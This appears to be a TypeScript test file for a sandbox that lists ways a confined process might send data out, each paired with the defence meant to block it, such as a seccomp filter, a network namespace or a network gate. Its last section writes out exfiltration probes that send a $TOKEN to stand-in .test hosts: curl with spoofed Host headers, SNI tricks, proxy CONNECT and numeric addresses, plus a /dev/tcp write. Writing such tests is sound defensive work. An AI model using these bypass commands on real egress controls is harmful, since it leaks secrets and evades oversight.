// Ways for a byte to leave. All of them go to listeners of the run: in a network namespace of its own, or on this host's loopback.

import { call, type Family, heard, sent, sh, shown, type Way } from "../way.js";

const FILTER = "seccomp filter";
const NO_ROUTE = "network namespace without a way out";
const GATE = "net gate";

const tcp: readonly Way[] = [
  call("tcp", "TCP to an address that no rule names", GATE, sent),
  call("tcp-web", "TCP to port 80 of such an address", GATE, sent),
  call("tcp-mapped", "TCP to the address as IPv4-mapped IPv6", GATE, sent),
  call("tcp-six", "TCP by IPv6", GATE, sent, { needs: "has-six" }),
  call("fast-open", "MSG_FASTOPEN: data without connect", GATE, sent),
  call("bound", "a transparent socket with a mark", GATE, sent),
  call("ring-connect", "connect by io_uring", FILTER, sent, { name: "ring" }),
  call("reconnect", "a socket dissolved and connected again", GATE, sent),
];

const others: readonly Way[] = [
  call("udp", "UDP", NO_ROUTE, sent),
  call("udp-two", "sendmmsg, whose second datagram goes elsewhere", NO_ROUTE, sent),
  call("dns-port", "UDP to another resolver", NO_ROUTE, sent),
  call("udp-lite", "UDP-Lite", FILTER, sent),
  call("icmp-datagram", "ICMP by a datagram socket", FILTER, sent, { control: "root", needs: "has-ping" }),
  call("icmp-raw", "ICMP by a raw socket", FILTER, sent, { control: "root" }),
  call("raw-ip", "a raw IP packet", FILTER, sent, { control: "root" }),
  call("packet", "a frame of its own (AF_PACKET)", FILTER, sent, { control: "root" }),
  call("sctp", "SCTP", FILTER, sent, { needs: "has-sctp" }),
  call("mptcp", "MPTCP", FILTER, sent, { needs: "has-mptcp" }),
];

const host: readonly Way[] = [
  ...(["control.sock", "loader.sock"] as const).map((service) =>
    call(
      `clawsec-${service.replace(".", "-")}`,
      `clawsec's own ${service}`,
      "mount view: it is not there",
      shown,
      {
        name: "service",
        service,
        control: "root",
      },
    ),
  ),
  call(
    "unix-abstract-host",
    "an abstract unix socket of the host",
    "network namespace of its own",
    heard("host"),
    {
      name: "unix-abstract",
      loopback: "host",
    },
  ),
  call(
    "unix-path-host",
    "a unix socket of the host by its path",
    "mount view: it is not there",
    heard("host"),
    { name: "unix-path" },
  ),
  ...(["loopback", "loopback-six", "loopback-mapped", "loopback-udp"] as const).map((name) =>
    call(
      `host-${name}`,
      `a listener on the host's loopback (${name})`,
      "network namespace of its own",
      heard("host"),
      {
        name,
        loopback: "host",
      },
    ),
  ),
];

const curl = "curl -s -m 4 -o /dev/null";

const names: readonly Way[] = [
  sh(
    "name-unknown",
    "a host that no rule permits, by name",
    "net gate: hold",
    sent,
    `${curl} "http://other.test/$TOKEN"`,
  ),
  sh(
    "host-header",
    "the name of another host in the HTTP request",
    GATE,
    sent,
    `${curl} -H "Host: other.test" "http://allowed.test/$TOKEN"`,
  ),
  sh(
    "host-header-allowed",
    "the name of the allowed host in a request to another address",
    GATE,
    sent,
    `${curl} -H "Host: allowed.test" "http://$HOST/$TOKEN"`,
  ),
  sh(
    "server-name",
    "another name in the TLS greeting",
    GATE,
    sent,
    `${curl} -k --connect-to "$TOKEN.test:443:allowed.test:443" "https://$TOKEN.test/"`,
  ),
  sh(
    "wildcard",
    "evilgood.test where *.good.test is permitted",
    GATE,
    sent,
    `${curl} "http://evilgood.test/$TOKEN"`,
  ),
  sh(
    "wildcard-itself",
    "good.test where *.good.test is permitted",
    GATE,
    sent,
    `${curl} "http://good.test/$TOKEN"`,
  ),
  sh(
    "private-answer",
    "a permitted name that leads to a private address",
    GATE,
    sent,
    `${curl} "http://private.test/$TOKEN"`,
  ),
  sh(
    "proxy",
    "the allowed host as a proxy to another",
    GATE,
    sent,
    `${curl} -x http://allowed.test:80 "http://other.test/$TOKEN"`,
  ),
  sh(
    "proxy-connect",
    "CONNECT through the allowed host",
    GATE,
    sent,
    `${curl} -p -x http://allowed.test:80 "http://$TOKEN.other.test:22/"`,
  ),
  sh(
    "other-port",
    "another port of the allowed host",
    GATE,
    sent,
    `${curl} "http://allowed.test:8080/$TOKEN"`,
  ),
  sh("number-host", "the address as one number", GATE, sent, `${curl} "http://$NUMBER/$TOKEN"`),
  sh(
    "other-protocol",
    "something that is not HTTP to port 80 of the allowed host",
    GATE,
    sent,
    'exec 3<>/dev/tcp/allowed.test/80 && echo "$TOKEN SSH-2.0" >&3; sleep 0.3',
  ),
];

export const networkFamily: Family = { name: "network", ways: [...tcp, ...others, ...host, ...names] };
